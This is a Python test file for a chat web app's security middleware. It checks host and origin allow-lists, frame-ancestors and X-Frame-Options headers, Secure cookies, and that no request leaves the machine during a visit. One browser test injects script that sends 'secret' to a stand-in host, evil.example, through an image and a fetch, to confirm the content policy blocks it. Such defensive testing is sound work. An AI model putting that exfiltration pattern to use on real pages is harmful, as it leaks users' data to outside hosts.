"""Whom the server answers, who may frame the page, and what goes with every answer."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from rag.security import OwnSite, SecurityHeaders, own_names, security_headers
from tests.pages.browsing import DESK, ask, open_page, wait_until_idle
from tests.pages.serving import free_port, served

PUBLIC = "https://chat.example.org"
LOCAL = own_names("localhost")
NETWORK = own_names("192.168.1.7")


def asked(app: Any, kind: str = "http", path: str = "/", **headers: str) -> tuple[list[dict[str, Any]], dict[str, str]]:
    """Return what *app* sends to one request."""
    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    async def receive() -> dict[str, Any]:
        return {"type": f"{kind}.request"}

    given = [(name.encode(), value.encode("latin-1")) for name, value in headers.items()]
    asyncio.run(app({"type": kind, "path": path, "headers": given}, receive, send))
    start = next((message for message in sent if message["type"] == "http.response.start"), {"headers": []})
    return sent, {name.decode(): value.decode() for name, value in start["headers"]}


class Answering:
    """An application that answers with the host it was asked by, and a cookie."""

    def __init__(self) -> None:
        self.hosts: list[str] = []

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        self.hosts += [value.decode() for name, value in scope["headers"] if name == b"host"]
        cookie = (b"Set-Cookie", b"_streamlit_user=x; HttpOnly; Path=/")
        await send({"type": "http.response.start", "status": 200, "headers": [cookie]})


@pytest.mark.parametrize("kind", ["http", "websocket"])
@pytest.mark.parametrize(
    ("names", "headers", "answered"),
    [
        (LOCAL, {"host": "localhost:8501"}, True),
        (LOCAL, {"host": "127.0.0.1:8501", "origin": "http://127.0.0.1:8501"}, True),
        (LOCAL, {"host": "[::1]:8501", "origin": "http://[::1]:8501"}, True),
        (LOCAL, {"host": "LOCALHOST:8501", "origin": "http://localhost:8501"}, True),
        (LOCAL, {"host": "evil.example:8501", "origin": "http://evil.example:8501"}, False),
        (LOCAL, {"host": "localhost.evil.example"}, False),
        (LOCAL, {"host": "[broken"}, False),
        (LOCAL, {}, False),
        (LOCAL, {"host": "localhost:8501", "origin": "http://evil.example"}, False),
        (LOCAL, {"host": "localhost:8501", "origin": "http://localhost:9000"}, False),
        (LOCAL, {"host": "localhost:8501", "origin": "null"}, False),
        (LOCAL, {"host": "localhost:8501", "origin": ""}, False),
        (NETWORK, {"host": "192.168.1.7:8501", "origin": "http://192.168.1.7:8501"}, True),
        (NETWORK, {"host": "192.168.1.7:8501", "origin": "http://evil.example"}, False),
    ],
)
def test_a_server_answers_to_its_own_names_and_to_its_own_pages(
    kind: str, names: frozenset[str], headers: dict[str, str], answered: bool
) -> None:
    app = Answering()
    sent, _ = asked(OwnSite(app, hosts=names, asked="/healthz"), kind, **headers)
    assert (sent[0].get("status") == 200) == answered
    if not answered:
        assert sent[0]["type"] == ("websocket.close" if kind == "websocket" else "http.response.start")
        assert app.hosts == []


@pytest.mark.parametrize(
    ("host", "origin", "seen"),
    [
        ("chat.example.org", PUBLIC, "chat.example.org"),
        ("127.0.0.1:8501", PUBLIC, "chat.example.org"),
        ("chat.example.org", "https://evil.example", None),
        ("evil.example", PUBLIC, None),
        ("127.0.0.1:8501", "http://127.0.0.1:8501", "127.0.0.1:8501"),
    ],
)
def test_behind_a_proxy_the_public_name_is_the_servers(host: str, origin: str, seen: str | None) -> None:
    app = Answering()
    asked(OwnSite(app, public=PUBLIC, hosts=own_names("127.0.0.1", PUBLIC)), host=host, origin=origin)
    assert app.hosts == ([] if seen is None else [seen])


def test_a_probe_is_answered_under_any_name() -> None:
    sent, _ = asked(OwnSite(Answering(), hosts=LOCAL, asked="/healthz"), path="/healthz", host="10.0.0.7:8501")
    assert sent[0]["status"] == 200


@pytest.mark.parametrize(
    ("sites", "policy", "older"),
    [
        (("'self'",), "frame-ancestors 'self'", "SAMEORIGIN"),
        (("'none'",), "frame-ancestors 'none'", "DENY"),
        (("'self'", "https://www.example.org"), "frame-ancestors 'self' https://www.example.org", None),
    ],
)
def test_who_may_frame_the_page_is_said_in_both_headers_where_both_can_say_it(
    sites: tuple[str, ...], policy: str, older: str | None
) -> None:
    headers = security_headers("", sites)
    assert headers["Content-Security-Policy"].split("; ")[-1] == policy
    assert headers.get("X-Frame-Options") == older


@pytest.mark.parametrize("secure", [True, False])
def test_behind_https_cookies_go_over_nothing_else(secure: bool) -> None:
    _, headers = asked(SecurityHeaders(Answering(), {"X-Here": "1"}, secure=secure))
    assert headers["x-here"] == "1"
    assert headers["Set-Cookie"].endswith("; Secure") == secure


# ------------------------------------------------------------------ as served


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    framing = {"REFERENT_FRAME_ANCESTORS": "'self', http://127.0.0.1:65000"}
    with served(tmp_path_factory.mktemp("framed"), given=lambda _: framing) as found:
        yield found


def test_another_sites_page_gets_no_connection(address: str) -> None:
    stream = address.replace("http", "ws") + "/_stcore/stream"
    with connect(stream, origin=address, subprotocols=["streamlit"]):  # type: ignore[arg-type, list-item] - plain text
        pass
    for origin in ("http://evil.example", "null", "http://127.0.0.1:1"):
        with pytest.raises(InvalidStatus) as refused:
            connect(stream, origin=origin, subprotocols=["streamlit"])  # type: ignore[arg-type, list-item] - the same
        assert refused.value.response.status_code == 403


@pytest.mark.browser
def test_the_policy_blocks_an_image_and_a_request_to_another_host(browser: Browser, address: str) -> None:
    page = open_page(browser, address)
    found = page.evaluate(
        """async () => {
            const blocked = [];
            document.addEventListener('securitypolicyviolation', event => blocked.push(event.effectiveDirective));
            const image = new Image();
            const drawn = new Promise(done => {
                image.onload = () => done('loaded');
                image.onerror = () => done('no');
            });
            image.src = 'http://evil.example/x.png?q=secret';
            document.body.append(image);
            const asked = await fetch('http://evil.example/?q=secret').then(() => 'sent', () => 'no');
            const script = document.createElement('script');
            script.textContent = 'window.ran = true';
            document.body.append(script);
            const result = [await drawn, asked, window.ran === true];
            await new Promise(done => setTimeout(done, 200));
            return [...result, blocked.sort()];
        }"""
    )
    assert found == ["no", "no", False, ["connect-src", "img-src", "script-src-elem"]]


@pytest.mark.browser
def test_no_request_of_a_whole_visit_leaves_the_machine(browser: Browser, address: str) -> None:
    page = browser.new_page(viewport=DESK)  # type: ignore[arg-type]
    left: list[str] = []
    page.on("request", lambda request: left.append(request.url))
    page.on("websocket", lambda socket: left.append(socket.url))
    page.goto(address)
    wait_until_idle(page)
    ask(page, "How much is the Veltara 13?")
    for path in ("conversations", "compare", "documents", "memory", "settings"):
        page.goto(f"{address}/{path}")
        wait_until_idle(page, last='[data-testid="stMain"] h1')
    own = (address, address.replace("http", "ws"), "data:", "blob:")
    assert len(left) > 20
    assert [url for url in left if not url.startswith(own)] == []


@contextmanager
def framing(framed: str) -> Iterator[str]:
    """Serve a page of another site, which holds the page at *framed* within it; yield the site."""
    body = f'<html><body><iframe src="{framed}" width="800" height="600"></iframe></body></html>'.encode()

    class Frame(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Frame) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            thread.join()


@pytest.mark.browser
@pytest.mark.parametrize("named", [True, False])
def test_a_site_that_is_named_frames_the_page_and_another_does_not(
    browser: Browser, tmp_path: Path, named: bool
) -> None:
    port = free_port()
    with framing(f"http://127.0.0.1:{port}") as site:
        given = {"REFERENT_FRAME_ANCESTORS": f"'self',{site}" if named else "'self'"}
        with served(tmp_path, given=lambda _: given, port=port):
            page = browser.new_page(viewport=DESK)  # type: ignore[arg-type]
            said: list[str] = []
            page.on("console", lambda message: said.append(message.text))
            page.goto(site)
            field = page.frame_locator("iframe").locator('[data-testid="stChatInputTextArea"]')
            if named:
                field.fill("How much is the Veltara 13?", timeout=30_000)
                field.press("Enter")
                answer = page.frame_locator("iframe").locator('[data-testid="stChatMessage"]').last
                expect(answer).to_contain_text("The Veltara 13 costs", timeout=30_000)
            else:
                page.wait_for_timeout(2000)
                assert field.count() == 0
                assert any("frame-ancestors" in each for each in said)
